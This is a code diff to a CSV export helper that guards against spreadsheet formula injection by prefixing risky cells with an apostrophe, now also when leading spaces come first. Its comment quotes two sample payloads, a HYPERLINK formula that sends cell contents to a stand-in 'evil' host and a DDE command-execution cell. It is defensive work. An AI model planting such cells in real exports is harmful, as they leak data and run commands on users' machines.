@@ -5,8 +5,9 @@ Why one shared module: every CSV meant to be opened in Excel, LibreOffice or Goo
 project pages: a title `=HYPERLINK("http://evil/?"&A1)` or an owner `+cmd|' /C calc'!A0` would
 run when the file is opened. The OWASP rule
 (https://owasp.org/www-community/attacks/CSV_Injection): a cell starting with `=`, `+`, `-`,
-`@`, a tab or a carriage return gets a leading `'`, which spreadsheets show as text. Plain
-numbers (`-1200`, `+3`, `-0.5`) are left alone, so amounts stay numbers.
+`@`, a tab or a carriage return (after any leading spaces) gets a leading `'`, which
+spreadsheets show as text. Plain numbers (`-1200`, `+3`, `-0.5`) are left alone, so amounts
+stay numbers.
 
 Not for the SPARQL CSV result format (/sparql): that follows the W3C standard to the letter
 and is read by programs.
@@ -40,7 +41,9 @@ def safe_cell(value: Any) -> str:
     if isinstance(value, (int, float)):
         return str(value)
     text = str(value)
-    if text.startswith(FORMULA_STARTS + _WIDE) and not _NUMBER.fullmatch(text):
+    # leading spaces too: some spreadsheets trim them on import, then read the formula
+    head = text.lstrip(" \u00a0")
+    if head.startswith(FORMULA_STARTS + _WIDE) and not _NUMBER.fullmatch(head):
         return "'" + text
     return text
 
